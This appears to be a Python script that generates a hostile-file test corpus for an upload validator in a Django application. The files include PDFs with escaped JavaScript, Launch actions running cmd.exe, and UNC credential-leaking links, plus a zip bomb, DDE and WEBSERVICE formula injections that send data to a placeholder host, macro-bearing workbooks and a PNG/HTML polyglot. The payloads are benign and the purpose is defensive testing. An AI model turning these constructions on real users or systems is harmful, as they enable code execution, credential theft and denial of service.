"""Writes the binary files of the hostile-input corpus into this folder.

    .venv/bin/python kinerja/lib/tests/hostile/make_corpus.py

The files are committed; this script says exactly how each was made, and makes
the same bytes on every run (fixed dates and identifiers, no randomness). None
of them does harm when opened: the "programs" are a program's first bytes and
nothing more, and the PDF scripts only show an alert. README.md lists what each
file is and what every upload must answer.
"""

import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXED_DATE = (2024, 1, 2, 0, 0, 0)


# --- PDF ------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes) -> bytes:
    """A PDF of the given objects (1 0 obj is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
ALERT = b"app.alert('Kinerja: skrip dalam PDF')"


def pdf_plain() -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)


def pdf_javascript_open_action() -> bytes:
    # The action's type is written with an escape (#61 is "a"), as malicious
    # files do to slip past a search for the bytes "/JavaScript".
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Action /S /J#61vaScript /JS (" + ALERT + b") >>",
    )


def pdf_javascript_names() -> bytes:
    # Document-level JavaScript, run when the document opens, in the /Names tree.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        PAGES,
        PAGE,
        b"<< /Names [(kinerja) 5 0 R] >>",
        b"<< /S /JavaScript /JS (" + ALERT + b") >>",
    )


def pdf_launch_action() -> bytes:
    # A page's additional action (/AA, on open) that starts a program.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (calc.exe) >>",
    )


def pdf_embedded_file() -> bytes:
    # An attachment: a "program" (its first bytes) that a viewer offers to open.
    program = windows_program()
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
        PAGES,
        PAGE,
        b"<< /Names [(pembaruan.exe) 5 0 R] >>",
        b"<< /Type /Filespec /F (pembaruan.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(program) + program + b"\nendstream",
    )


def _page_with(annotation: bytes) -> bytes:
    """A one-page PDF whose page carries one annotation (object 4)."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        annotation,
    )


def _link(action: bytes) -> bytes:
    return _page_with(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A " + action + b" >>")


def pdf_limit_array() -> bytes:
    # About 200 KB: an array of more entries than pypdf reads (100,000); an
    # unchecked reader raises LimitReachedError.
    return pdf(b"<< /Type /Catalog /Pages 2 0 R /Kinerja 4 0 R >>", PAGES, PAGE, b"[" + b"0 " * 100_500 + b"]")


def pdf_gotor() -> bytes:
    return _link(b"<< /S /GoToR /F (lampiran.pdf) /D [0 /Fit] >>")


def pdf_gotor_unc() -> bytes:
    # A link to a file on a network share: opening it sends the reader's Windows credentials.
    return _link(b"<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\berkas\\\\pk.pdf) /D [0 /Fit] >>")


def pdf_uri_javascript() -> bytes:
    return _link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")


def pdf_uri_file() -> bytes:
    return _link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")


def pdf_uri_unc() -> bytes:
    # A "web" link to a network share: Windows sends the reader's credentials to it.
    return _link(b"<< /S /URI /URI (\\\\\\\\198.51.100.7\\\\berkas) >>")


def pdf_uri_vbscript() -> bytes:
    return _link(b"<< /S /URI /URI (vbscript:msgbox\\(1\\)) >>")


def pdf_gotor_open_action() -> bytes:
    # Opening the document itself opens another file, with no click.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (lampiran.pdf) /D [0 /Fit] >> >>",
        PAGES,
        PAGE,
    )


def pdf_3d_on_instantiate() -> bytes:
    # A 3D annotation whose stream runs a script when the model is loaded.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 5 0 R >>",
        b"<< /Type /3D /Subtype /U3D /OnInstantiate 6 0 R /Length 0 >>\nstream\n\nendstream",
        b"<< /Length %d >>\nstream\n" % len(ALERT) + ALERT + b"\nendstream",
    )


def pdf_rich_media() -> bytes:
    return _page_with(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>")


def pdf_rendition() -> bytes:
    return _link(b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (film.swf) >> >> >>")


def pdf_screen() -> bytes:
    return _page_with(b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] >>")


def pdf_sound_action() -> bytes:
    return _link(b"<< /S /Sound /Sound << /R 8000 /Length 0 >> >>")


def pdf_sound_annotation() -> bytes:
    return _page_with(b"<< /Type /Annot /Subtype /Sound /Rect [0 0 20 20] /Sound << /R 8000 >> >>")


def pdf_movie() -> bytes:
    return _page_with(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 100 100] /Movie << /F (film.mov) >> >>")


def pdf_page_additional_action() -> bytes:
    # A page action run when the page is shown (/AA /O), here only a jump: the page's /AA itself is refused.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
    )


def pdf_truncated() -> bytes:
    # A real three-page PDF cut short, as an interrupted transfer leaves it.
    whole = pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>",
        PAGE,
        PAGE,
        PAGE,
    )
    return whole[: len(whole) * 2 // 3]


def pdf_encrypted() -> bytes:
    """A blank page encrypted with a user password (RC4-128, pypdf), with fixed identifiers."""
    import pypdf._writer
    from pypdf import PdfWriter

    class FixedSecrets:
        @staticmethod
        def token_bytes(count: int) -> bytes:
            return b"K" * count

    real_secrets = pypdf._writer.secrets
    pypdf._writer.secrets = FixedSecrets
    try:
        writer = PdfWriter()
        writer.add_blank_page(width=595, height=842)
        writer.encrypt("rahasia", algorithm="RC4-128")
        buffer = io.BytesIO()
        writer.write(buffer)
    finally:
        pypdf._writer.secrets = real_secrets
    return buffer.getvalue()


# --- Programs and other files under a false name ----------------------------------------------------------


def windows_program() -> bytes:
    """The first bytes of a Windows program: an MZ header pointing to a PE signature. It cannot run."""
    header = bytearray(128)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    header[0x40 : 0x40 + len(stub)] = stub
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(18)


def linux_program() -> bytes:
    """The first bytes of a 64-bit Linux program (ELF header only). It cannot run."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(44)


def html_page() -> bytes:
    return b'<!doctype html><html><body><script>alert("Kinerja")</script><p>Bukti kegiatan</p></body></html>\n'


def office_encrypted() -> bytes:
    """What a password-protected .xlsx starts with: an OLE compound file, not a ZIP."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


# --- ZIP containers -------------------------------------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zip_bomb(entries: int = 200, kernel_bytes: int = 10 * 1024 * 1024) -> bytes:
    """An .xlsx-looking ZIP of about 20 KB whose directory adds up to 2 GB.

    One compressed "kernel" (10 MiB of zeros, deflated to ~10 KB) is stored
    once; `entries` directory entries all point to it (the overlapping-file
    construction of D. Fifield, "A better zip bomb", 2019). A reader that trusts
    the directory inflates 200 × 10 MiB. A single deflate stream cannot expand
    much beyond 1000:1, so sharing is what makes a few kilobytes declare
    gigabytes.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = compressor.compress(bytes(kernel_bytes)) + compressor.flush()
    crc = zlib.crc32(bytes(kernel_bytes))
    dos_time, dos_date = 0, (2024 - 1980) << 9 | 1 << 5 | 2

    out = bytearray()
    central = bytearray()

    def local(name: bytes, method: int, data: bytes, size: int, crc32: int) -> int:
        offset = len(out)
        out.extend(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, dos_time, dos_date, crc32, len(data), size, len(name), 0
            )
        )
        out.extend(name + data)
        return offset

    def directory(name: bytes, method: int, compressed: int, size: int, crc32: int, offset: int) -> None:
        central.extend(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                dos_time,
                dos_date,
                crc32,
                compressed,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )

    types_name = b"[Content_Types].xml"
    types_offset = local(types_name, 0, CONTENT_TYPES, len(CONTENT_TYPES), zlib.crc32(CONTENT_TYPES))
    directory(types_name, 0, len(CONTENT_TYPES), len(CONTENT_TYPES), zlib.crc32(CONTENT_TYPES), types_offset)
    kernel_offset = local(b"xl/worksheets/sheet1.xml", 8, kernel, kernel_bytes, crc)
    for index in range(1, entries + 1):
        directory(b"xl/worksheets/sheet%d.xml" % index, 8, len(kernel), kernel_bytes, crc, kernel_offset)
    start = len(out)
    out.extend(central)
    count = entries + 1
    out.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0))
    return bytes(out)


def repacked(data: bytes) -> bytes:
    """The same ZIP with fixed dates, so that the bytes do not depend on the day they were made."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_DATE)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            content = source.read(info)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving
                content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2024-01-02T00:00:00Z", content)
            target.writestr(fixed, content)
    return out.getvalue()


def workbook_bytes(workbook) -> bytes:
    import datetime

    workbook.properties.created = workbook.properties.modified = datetime.datetime(2024, 1, 2)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return repacked(buffer.getvalue())


# The IKU import of the demo's KPU Kota Sorong for 2025: a valid file whose
# texts start like formulas (=, +, -, @, and = after a tab or a carriage
# return). Imported, the texts are kept; every export must write them back as
# text, never as a formula.
FORMULA_GOALS = [
    '=HYPERLINK("http://contoh.invalid/?curi="&A1,"Klik untuk detail")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 diawali tab",
]
FORMULA_DECREE = '\r=WEBSERVICE("http://contoh.invalid/")'
FORMULA_INDICATORS = [
    ("KPU.IKU.01", "100"),
    ("KPU.IKU.02", "2"),
    ("KPU.IKU.03", "B"),
    ("KPU.IKU.04", "WTP"),
    ("KPU.IKU.05", "30"),
]


def formula_text_workbook() -> bytes:
    from openpyxl import Workbook

    from kinerja.planning.spreadsheets import IKU_COLUMNS, IKU_SHEET

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = IKU_SHEET
    sheet.append(list(IKU_COLUMNS))
    for order, ((code, target), goal) in enumerate(zip(FORMULA_INDICATORS, FORMULA_GOALS, strict=True), 1):
        sheet.append(
            ["kpu-96.71", "KPU Kota Sorong", 2025, FORMULA_DECREE, "02-01-2025", "30-06-2025", order, goal, code]
            + [None, target, None]
        )
    # openpyxl takes any text starting with "=" for a formula; these cells are text,
    # as a spreadsheet program saves typed text.
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    return workbook_bytes(workbook)


def macro_workbook() -> bytes:
    """A small .xlsx that also carries a VBA project: a macro-enabled workbook under the .xlsx name."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Bukti kegiatan"
    data = workbook_bytes(workbook)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        vba = zipfile.ZipInfo("xl/vbaProject.bin", date_time=FIXED_DATE)
        target.writestr(vba, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def png_html_polyglot() -> bytes:
    """A real 1×1 PNG whose text chunk is an HTML page: a browser told it is HTML runs the script."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"tEXt", b"Comment\x00" + html_page())
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(zipfile.ZipInfo(name, date_time=FIXED_DATE), content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _with_parts(data: bytes, overrides: dict[str, str], parts: dict[str, bytes]) -> bytes:
    """An Office package with more parts, and their content types declared (Override)."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        contents = {info.filename: source.read(info) for info in source.infolist()}
    declared = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items())
    contents["[Content_Types].xml"] = contents["[Content_Types].xml"].replace(
        b"</Types>", declared.encode() + b"</Types>"
    )
    contents.update(parts)
    return _package(contents)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    ).encode()


def document(body: str = "<w:p><w:r><w:t>Bukti kegiatan</w:t></w:r></w:p>", parts: dict | None = None) -> bytes:
    """A minimal .docx; `parts` are added as they are."""
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    )
    contents = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": _rels(f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode(),
    }
    contents.update(parts or {})
    return _package(contents)


def _workbook(formula: str | None = None) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Bukti kegiatan"
    if formula:
        workbook.active["B1"] = formula
    return workbook_bytes(workbook)


def macro_renamed_workbook() -> bytes:
    """A VBA project stored under a picture's name, and declared (as Office requires to run it) a VBA project."""
    return _with_parts(
        _workbook(),
        {"xl/media/gambar1.png": "application/vnd.ms-office.vbaProject"},
        {"xl/media/gambar1.png": office_encrypted()},
    )


def activex_document() -> bytes:
    return _with_parts(
        document(),
        {"word/controls/kontrol1.xml": "application/vnd.ms-office.activeX+xml"},
        {"word/controls/kontrol1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'},
    )


def ole_object_document() -> bytes:
    return _with_parts(
        document(),
        {"word/media/objek1.dat": "application/vnd.openxmlformats-officedocument.oleObject"},
        {"word/media/objek1.dat": office_encrypted()},
    )


def external_template_document() -> bytes:
    # word/settings.xml names a template on a network share; Word fetches it on opening.
    relation = (
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="file://198.51.100.7/berkas/templat.dotm" TargetMode="External"/>'
    )
    settings = f'<w:settings xmlns:w="{W}"><w:attachedTemplate r:id="rId1" xmlns:r="{REL}"/></w:settings>'
    return document(parts={"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": _rels(relation)})


def external_image_document() -> bytes:
    relation = (
        f'<Relationship Id="rId9" Type="{REL}/image" Target="http://contoh.invalid/lacak.png" TargetMode="External"/>'
    )
    return document(parts={"word/_rels/document.xml.rels": _rels(relation)})


def dde_field_document() -> bytes:
    field = (
        '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '
        "</w:instrText></w:r></w:p>"
    )
    return document(field)


def dde_formula_workbook() -> bytes:
    return _workbook("=cmd|' /C calc'!A0")


def webservice_formula_workbook() -> bytes:
    return _workbook('=WEBSERVICE("http://contoh.invalid/?curi="&A1)')


def hyperlink_formula_workbook() -> bytes:
    return _workbook('=HYPERLINK("file://198.51.100.7/berkas/","Buka")')


def external_link_workbook() -> bytes:
    """A workbook linked to another on a network share (xl/externalLinks), which Excel offers to update."""
    relation = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLinkPath" Target="file://198.51.100.7/berkas/anggaran.xlsx" TargetMode="External"/>'
    )
    return _with_parts(
        _workbook(),
        {
            "xl/externalLinks/externalLink1.xml": (
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
            )
        },
        {
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(relation),
        },
    )


# --- The corpus -------------------------------------------------------------------------------------------------

FILES = {
    "program-windows.pdf": windows_program,
    "program-linux.xlsx": linux_program,
    "html-script.pdf": html_page,
    "encrypted.pdf": pdf_encrypted,
    "javascript-openaction.pdf": pdf_javascript_open_action,
    "javascript-names.pdf": pdf_javascript_names,
    "launch-action.pdf": pdf_launch_action,
    "embedded-program.pdf": pdf_embedded_file,
    "truncated.pdf": pdf_truncated,
    "zip-bomb.xlsx": zip_bomb,
    "encrypted.xlsx": office_encrypted,
    "macro.xlsx": macro_workbook,
    "formula-text.xlsx": formula_text_workbook,
    "limit-array.pdf": pdf_limit_array,
    "gotor.pdf": pdf_gotor,
    "gotor-unc.pdf": pdf_gotor_unc,
    "uri-javascript.pdf": pdf_uri_javascript,
    "uri-file.pdf": pdf_uri_file,
    "uri-unc.pdf": pdf_uri_unc,
    "uri-vbscript.pdf": pdf_uri_vbscript,
    "gotor-openaction.pdf": pdf_gotor_open_action,
    "3d-oninstantiate.pdf": pdf_3d_on_instantiate,
    "richmedia.pdf": pdf_rich_media,
    "rendition.pdf": pdf_rendition,
    "screen-annotation.pdf": pdf_screen,
    "sound-action.pdf": pdf_sound_action,
    "sound-annotation.pdf": pdf_sound_annotation,
    "movie.pdf": pdf_movie,
    "page-aa.pdf": pdf_page_additional_action,
    "png-html-polyglot.htm": png_html_polyglot,
    "macro-renamed.xlsx": macro_renamed_workbook,
    "activex.docx": activex_document,
    "ole-object.docx": ole_object_document,
    "external-template.docx": external_template_document,
    "external-image.docx": external_image_document,
    "dde-field.docx": dde_field_document,
    "dde-formula.xlsx": dde_formula_workbook,
    "webservice-formula.xlsx": webservice_formula_workbook,
    "hyperlink-formula.xlsx": hyperlink_formula_workbook,
    "external-link.xlsx": external_link_workbook,
}


def main() -> None:
    sys.path.insert(0, str(HERE.parents[3]))  # the repository, for kinerja.planning's column names
    import os

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "kinerja.settings")
    import django

    django.setup()
    for name, make in FILES.items():
        data = make()
        (HERE / name).write_bytes(data)
        print(f"{name:28} {len(data):>7} bytes")


if __name__ == "__main__":
    main()
